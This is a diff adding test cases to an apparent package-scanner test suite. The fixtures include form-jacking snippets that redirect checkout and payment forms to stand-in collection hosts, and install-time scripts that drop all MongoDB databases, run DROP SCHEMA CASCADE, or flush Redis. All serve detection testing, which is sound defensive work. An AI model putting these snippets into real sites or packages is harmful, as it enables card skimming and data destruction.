@@ -2036,6 +2036,78 @@ export async function connect() {
   });
 });
 
+describe('form-jacking: a form of the page pointed at a fixed host', () => {
+  const web = (code: string) => analyzeSource({ 'package.json': pkg(), 'index.js': code });
+  it('checkout forms found by a selector get their action rewritten, the address in a settings object', () => {
+    const r = web(`(function () {
+  var cfg = { sel: 'form[id*="checkout"], form[action*="payment"]', to: 'https://cdn-metrics.example-stat.com/collect' };
+  function patch() { document.querySelectorAll(cfg.sel).forEach(function (f) { f.action = cfg.to; f.method = 'POST'; }); }
+  document.addEventListener('DOMContentLoaded', patch);
+})();`);
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('by setAttribute in a helper given the form id, by jQuery attr, by document.forms, in a submit handler', () => {
+    for (const code of [
+      `function retarget(id, url) { const el = document.getElementById(id); if (el) el.setAttribute('action', url); }
+retarget('checkout-form', 'https://orders-verify.example.io/p');`,
+      `const settings = { target: 'https://store-analytics.example.biz/order' };
+jQuery(function ($) { $('form').attr('action', settings.target); });`,
+      `const hosts = ['https://pay-secure-check.example.info/submit'];
+window.addEventListener('load', () => { for (let i = 0; i < document.forms.length; i++) document.forms[i].action = hosts[0]; });`,
+      `document.addEventListener('submit', function (e) { e.target.action = 'https://formsink.example.net/c'; }, true);`,
+    ])
+      expect(web(code).risk_level).toBe('critical');
+  });
+  it('a payment button that builds its own form, and forms given a relative or configured action, stay quiet', () => {
+    expect(
+      web(`export function payButton(opts) {
+  const f = document.createElement('form');
+  f.action = 'https://payments.example.com/cgi-bin/webscr';
+  f.method = 'post';
+  const i = document.createElement('input'); i.name = 'business'; i.value = opts.email; f.appendChild(i);
+  document.body.appendChild(f); f.submit();
+}`).risk_level,
+    ).toBe('clean');
+    expect(
+      web(`document.querySelectorAll('form.js-search').forEach((f) => { f.action = '/search'; });
+const form = document.querySelector('form'); if (form && window.API) form.action = window.API + '/submit';`)
+        .risk_level,
+    ).toBe('clean');
+  });
+});
+
+describe('databases wiped by install-time code', () => {
+  const install = (code: string) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
+  it('every database listed and dropped, a SQL DROP sent through a client, a cache flushed', () => {
+    for (const code of [
+      `const { MongoClient } = require('mongodb');
+const url = process.env.MONGO_URL || 'mongodb://127.0.0.1:27017';
+MongoClient.connect(url).then(async (c) => { const dbs = await c.db().admin().listDatabases(); for (const d of dbs.databases) await c.db(d.name).dropDatabase(); });`,
+      `const { Client } = require('pg'); const stmts = ['DROP SCHEMA public CASCADE'];
+const c = new Client({ connectionString: process.env.DATABASE_URL }); c.connect().then(() => c.query(stmts[0]));`,
+      `const redis = require('redis').createClient(); redis.connect().then(() => redis.flushAll ? redis.flushall() : 0);`,
+    ])
+      expect(install(code).risk_level).toBe('critical');
+  });
+  it('an install step that creates tables, and a test helper that drops its own database, stay quiet', () => {
+    expect(
+      install(
+        `const { Client } = require('pg'); const c = new Client(); c.connect().then(() => c.query('CREATE TABLE IF NOT EXISTS kv (k text, v text)'));`,
+      ).risk_level,
+    ).not.toBe('critical');
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `exports.reset = async (db) => { await db.dropDatabase(); };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
